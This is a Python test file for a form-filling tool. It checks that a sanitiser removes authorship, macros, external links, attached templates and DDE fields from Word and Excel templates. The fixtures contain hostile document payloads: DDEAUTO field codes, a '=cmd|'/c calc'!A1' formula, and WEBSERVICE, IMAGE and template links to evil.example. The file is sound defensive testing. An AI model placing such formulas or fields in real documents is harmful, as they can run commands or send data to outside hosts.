"""Nothing of a template's maker is carried into what is filled: macros, links, names, comments."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from core.filling import fill_template
from core.filling.clean_xlsx import reaches
from core.forms import BasicData
from core.forms.basic_data import template_lines
from core.submission import Filled
from core.writers import write_docx, write_xlsx
from tests.core.writers import made

BLANK = Filled("f1", BasicData(lines=template_lines()))
FORM = Filled("f1", made.BASIC)
TRACES = ("秘密作者", "evil.example", "vbaProject", "externalLink", "attachedTemplate", "DDEAUTO")
_RELS = "word/_rels/document.xml.rels"
_OUTSIDE = (
    '<Relationship Id="rId90" TargetMode="External" Target="https://evil.example/a.dotm"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/>'
)


def repacked(data: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in more.items():
            new.writestr(name, part)
    return out.getvalue()


def traces(data: bytes) -> set[str]:
    """Which traces any part of a package bears, in its name or its text."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        whole = "".join(
            name + package.read(name).decode("utf-8", "replace") for name in package.namelist()
        )
    return {trace for trace in TRACES if trace in whole}


def dirty_docx(folder: Path) -> bytes:
    """A Word form with an author, a macro part, an outside link, a template and a DDE field."""
    path = folder / "t.docx"
    write_docx((BLANK,), path)
    document = docx.Document(str(path))
    document.core_properties.author = "秘密作者"
    document.core_properties.last_modified_by = "秘密作者"
    document.save(str(path))
    field = (
        '<w:p><w:hyperlink r:id="rId90" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"><w:r><w:t>说明见网页</w:t></w:r></w:hyperlink>'
        '<w:ins w:author="秘密作者" w:id="1"><w:r><w:t>已插入</w:t></w:r></w:ins>'
        '<w:del w:author="秘密作者" w:id="2"><w:r><w:delText>已删除</w:delText></w:r></w:del>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\x'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="vbaProject.a"/>'
        "</w:ffData></w:fldChar></w:r><w:r><w:instrText> PAGE \\* Arabic </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>DDEAUTO c:\\y</w:instrText>'
        '</w:r><w:fldSimple w:instr="PAGE DDEAUTO c:\\z"/><w:r><w:pict><v:shape'
        ' xmlns:v="urn:schemas-microsoft-com:vml" href="https://evil.example"><v:imagedata'
        ' src="https://evil.example/1.png"/></v:shape></w:pict></w:r></w:p>'
    )

    def change(name: str, part: bytes) -> bytes:
        text = part.decode("utf-8", "surrogateescape")
        if name == "word/document.xml":
            text = text.replace("<w:sectPr", f"{field}<w:sectPr", 1)
        if name == _RELS:
            text = text.replace(
                "</Relationships>", _OUTSIDE.format("hyperlink") + "</Relationships>"
            )
        return text.encode("utf-8", "surrogateescape")

    more = {
        "word/vbaProject.bin": b"vbaProject",
        "word/_rels/settings.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{_OUTSIDE.format('attachedTemplate')}</Relationships>"
        ).encode(),
        "customXml/item9.xml": "<a>秘密作者</a>".encode(),
    }
    return repacked(path.read_bytes(), change, more)


def dirty_xlsx(folder: Path) -> bytes:
    """A workbook with an author, a comment, a hyperlink, outside formulas and a macro part."""
    path = folder / "t.xlsx"
    write_xlsx((BLANK,), path)
    book = openpyxl.load_workbook(path)
    book.properties.creator = "秘密作者"
    sheet = book.worksheets[0]
    sheet["J1"] = '=HYPERLINK("https://evil.example")'
    sheet["J2"] = "='[externalLink1.xlsx]Sheet1'!A1"
    sheet["J3"] = "=DDEAUTO|'x'!A1"
    sheet["J5"] = ArrayFormula("J5", '=WEBSERVICE("https://evil.example")')
    sheet["J6"] = '=_xlfn.IMAGE("https://evil.example")'
    rule = Rule("expression", formula=['LEN(WEBSERVICE("https://evil.example"))>0'])
    sheet.conditional_formatting.add("J7", rule)
    sheet["J4"] = "说明"
    sheet["J4"].hyperlink = "https://evil.example"
    sheet["J4"].comment = Comment("秘密作者", "秘密作者")
    book.defined_names["outside"] = DefinedName("outside", attr_text="[externalLink1.xlsx]A!A1")
    book.save(path)
    return repacked(
        path.read_bytes(), lambda name, part: part, {"xl/vbaProject.bin": b"vbaProject"}
    )


@pytest.mark.parametrize("make", [dirty_docx, dirty_xlsx])
def test_no_trace_stays(make: Callable[[Path], bytes], tmp_path: Path) -> None:
    dirty = make(tmp_path)
    assert len(traces(dirty)) > 3
    assert traces(fill_template(dirty, FORM).data) == set()


@pytest.mark.parametrize(
    ("formula", "gone"),
    [
        ('=ROUND(SUM(A1,B1)/C1*100,2)&"%"', False),
        ("='附件1'!A1-(A2+A3)*(B1)", False),
        ('=IF(A1="一|二[三]","",1)', False),
        ('"是,否"', False),
        ("附件1!$A$1:$B$2", False),
        ('=_xlfn.IMAGE("https://evil.example")', True),
        ('=SUM(A1)+Webservice ("https://evil.example")', True),
        ('=(WEBSERVICE)("https://evil.example")', True),
        ("=[1]表!A1", True),
        (r"='\\evil.example\表.xlsx'!a", True),
        ("=cmd|'/c calc'!A1", True),
        ("=of_the_next_edition(A1)", True),
    ],
)
def test_formulas_that_may_look_elsewhere(formula: str, gone: bool) -> None:
    assert reaches(formula) is gone


def test_formulas_that_are_missed_are_told(tmp_path: Path) -> None:
    told = fill_template(dirty_xlsx(tmp_path), FORM).problems[0]
    assert "公式" in told


def test_page_numbers_stay_fields(tmp_path: Path) -> None:
    data = fill_template(dirty_docx(tmp_path), FORM).data
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        body = package.read("word/document.xml").decode()
    assert re.findall(r"<w:instrText[^>]*>(.*?)</", body) == [r" PAGE \* Arabic "]
    assert body.count("<w:fldChar") == 2


def test_what_was_printed_stays(tmp_path: Path) -> None:
    """Words of a link, of an accepted insertion and of a field's result; not of a deletion."""
    data = fill_template(dirty_docx(tmp_path), FORM).data
    text = "".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
    assert "说明见网页已插入结果" in text
    assert "已删除" not in text


def test_exports_of_the_program_bear_its_own_name_only(tmp_path: Path) -> None:
    for kind, write in (("docx", write_docx), ("xlsx", write_xlsx)):
        path = tmp_path / f"own.{kind}"
        write((FORM,), path)
        with zipfile.ZipFile(path) as package:
            core = package.read("docProps/core.xml").decode()
        assert "绩效自评工作台" in core
        assert "python" not in core.lower()
        assert "openpyxl" not in core.lower()
